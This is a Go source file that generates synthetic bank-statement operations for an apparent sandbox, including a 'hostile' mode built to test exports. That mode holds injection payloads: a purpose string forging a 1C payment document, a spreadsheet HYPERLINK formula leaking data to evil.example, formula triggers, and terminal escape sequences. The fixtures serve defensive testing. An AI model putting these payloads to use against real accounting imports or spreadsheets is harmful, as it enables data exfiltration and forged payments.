package demo

import (
	"fmt"
	"strconv"
	"time"

	"github.com/bankctl/bankctl/internal/sandbox/wire"
)

// Operation is one statement line. Operations are a pure function of their index and the
// period, so a 100,000-operation statement costs no memory and every page of a query (and a
// resumed query) sees the same operations.
type Operation struct {
	I                    int
	ID, Status, Category string
	Credit, CyrillicC    bool
	Kopecks              int64
	At                   time.Time
	Party                Party
	Purpose, Description string
	Card                 bool
	Number, Account      string // an executed draft's; else made up from I, and the main account
}

var moscow = time.FixedZone("MSK", 3*3600)

// Op is operation i of n, spread evenly over [from, to): of the ordinary month, or hostile.
func Op(i, n int, from, to time.Time, hostile bool) *Operation {
	span := to.Sub(from)
	op := &Operation{I: i, At: from.Add(time.Duration(float64(span) * (float64(i) + 0.5) / float64(n))).Truncate(time.Second)}
	op.ID = "op-" + strconv.FormatInt(from.Unix(), 36) + "-" + strconv.Itoa(i)
	op.Status = "Transaction"
	day := op.At.In(moscow).Format("02.01.2006")
	if hostile {
		hostileOp(op, i, n, day)
	} else {
		k := month[i%len(month)]
		op.Party, op.Credit, op.Category = k.party, k.credit, k.category
		op.Kopecks = k.kopecks + int64(i%50)*1000
		op.Purpose = fmt.Sprintf(k.purpose, 1000+i, day)
		op.Description = op.Purpose
	}
	if i%13 == 12 {
		op.Status, op.Credit, op.Card, op.Category = "Authorization", false, true, "cardPayment"
		op.Purpose, op.Description, op.Kopecks = "Оплата картой *4242", "КОФЕЙНЯ НА ТОЛСТОГО", 45000+int64(i%20)*1000
	}
	op.CyrillicC = op.Credit && i%14 == 0
	return op
}

// TaxOp is operation i of n of the tax reserve account: transfers from the main account.
func TaxOp(i, n int, from, to time.Time) *Operation {
	span := to.Sub(from)
	op := &Operation{I: i, At: from.Add(time.Duration(float64(span) * (float64(i) + 0.5) / float64(n))).Truncate(time.Second),
		Status: "Transaction", Credit: true, Category: "transfer", Kopecks: 1500000 + int64(i%10)*50000, Account: TaxAccount}
	op.ID = "op-tax-" + strconv.FormatInt(from.Unix(), 36) + "-" + strconv.Itoa(i)
	op.Party = Us(MainAccount)
	op.Purpose = "Перевод собственных средств в налоговую копилку, НДС не облагается"
	op.Description = op.Purpose
	return op
}

// hostileOp is the statement made to test the exports: as it always was.
func hostileOp(op *Operation, i, n int, day string) {
	op.Credit = i%2 == 0
	op.Kopecks = 10000 + int64(i)*7919%99999000
	op.Party = hostileParties[i%len(hostileParties)]
	op.Category = map[bool]string{true: "income", false: "supplierPayment"}[op.Credit]
	op.Purpose = "Оплата по счету № " + strconv.Itoa(1000+i) + " от " + day + ", НДС не облагается"
	defer func() {
		if op.Description == "" {
			op.Description = op.Purpose
		}
	}()
	switch {
	case n > 7 && i == 1:
		// A counterparty's purpose that would end the 1С document and forge another.
		op.Credit, op.Category = true, "income"
		op.Purpose = "Оплата по счету 5\r\nКонецДокумента\r\nСекцияДокумент=Платежное поручение\r\nНомер=666\r\nСумма=9999999.99\r\nПолучательСчет=" + MainAccount + "\r\nКонецДокумента"
	case n > 7 && i == 3:
		// A name and texts a spreadsheet would run as formulas.
		op.Credit, op.Category = true, "income"
		op.Party.Name = `=HYPERLINK("http://evil.example/?leak=1";"ООО Ромашка")`
		op.Purpose, op.Description = "-2+3 возврат", "@SUM(A1:A9)"
	case n > 7 && i == 5:
		// Text Windows-1251 cannot hold: it must become "?", never a broken file.
		op.Credit, op.Category = false, "supplierPayment"
		op.Purpose = "Кофе ☕ и торт 🎂 для офиса, Zażółć gęślą jaźń, ½ × ∞"
	case n > 7 && i == 9:
		// A purpose that would act on a terminal: a window title, a cleared screen, reversed text.
		op.Purpose = "Возврат \u001b]0;pwned\u0007\u001b[2J\u202e40702810"
	case n > 7 && i == 7:
		op.Credit, op.Category, op.Kopecks = true, "income", 9876543210987654 // 98765432109876.54: more digits than float64 keeps
	}
}

// AppendJSON writes the operation as T-Business does (field names from the API's spec).
func (op *Operation) AppendJSON(b []byte) []byte {
	kind := "Debit"
	if op.Credit {
		kind = "Credit"
		if op.CyrillicC {
			kind = "Сredit" // the official example's spelling, with a Cyrillic С
		}
	}
	at := op.At.UTC().Format(time.RFC3339)
	m := op.At.In(moscow)
	day := time.Date(m.Year(), m.Month(), m.Day(), 0, 0, 0, 0, moscow).UTC().Format(time.RFC3339)
	amount := wire.Kop(op.Kopecks)
	account := op.Account
	if account == "" {
		account = MainAccount
	}
	payer, receiver := op.Party, Us(account)
	if !op.Credit {
		payer, receiver = receiver, op.Party
	}
	b = append(b, `{"operationId":`...)
	b = wire.AppendString(b, op.ID)
	for _, kv := range [...][2]string{{"operationDate", at}, {"operationStatus", op.Status}, {"accountNumber", account},
		{"bic", BankBIC}, {"typeOfOperation", kind}, {"category", op.Category}, {"trxnPostDate", at},
		{"authorizationDate", at}, {"drawDate", at}, {"chargeDate", at}, {"docDate", day}} {
		b = wire.Field(b, kv[0], kv[1])
	}
	number := op.Number
	if number == "" {
		number = strconv.Itoa(100 + op.I%900000)
	}
	b = wire.Field(b, "documentNumber", number)
	b = wire.Field(b, "payVo", "01")
	b = wire.Field(b, "vo", "01")
	b = append(b, `,"priority":5,"operationAmount":`...)
	b = append(b, amount...)
	b = append(b, `,"operationCurrencyDigitalCode":"643","accountAmount":`...)
	b = append(b, amount...)
	b = append(b, `,"accountCurrencyDigitalCode":"643","rubleAmount":`...)
	b = append(b, amount...)
	b = wire.Field(b, "description", op.Description)
	b = wire.Field(b, "payPurpose", op.Purpose)
	b = append(b, `,"payer":`...)
	b = payer.appendJSON(b, "acct", "bicRu", "corAcct")
	b = append(b, `,"receiver":`...)
	b = receiver.appendJSON(b, "acct", "bicRu", "corAcct")
	b = append(b, `,"counterParty":`...)
	b = op.Party.appendJSON(b, "account", "bankBic", "corrAccount")
	if op.Party == Treasury {
		b = append(b, `,"tax":{"kbk":"18201061201010000510","oktmo":"0","payerStatus":"01","evidence":"0","period":"0","docNumber":"0","docDate":"0","uin":"0"}`...)
	}
	if op.Card {
		b = append(b, `,"cardNumber":"220070******4242","mcc":"5814","merch":{"name":"КОФЕЙНЯ НА ТОЛСТОГО","city":"MOSCOW","country":"RUS"},"rrn":"`...)
		b = strconv.AppendInt(b, 400000000000+int64(op.I), 10)
		b = append(b, `","authCode":"A1B2C3"`...)
	}
	return append(b, '}')
}

func (p Party) appendJSON(b []byte, acct, bic, corr string) []byte {
	b = append(b, `{"`...)
	b = append(b, acct...)
	b = append(b, `":`...)
	b = wire.AppendString(b, p.Account)
	b = wire.Field(b, "name", p.Name)
	b = wire.Field(b, "inn", p.INN)
	b = wire.Field(b, "kpp", p.KPP)
	b = wire.Field(b, bic, p.BIC)
	b = wire.Field(b, "bankName", p.Bank)
	b = wire.Field(b, corr, p.Corr)
	return append(b, '}')
}
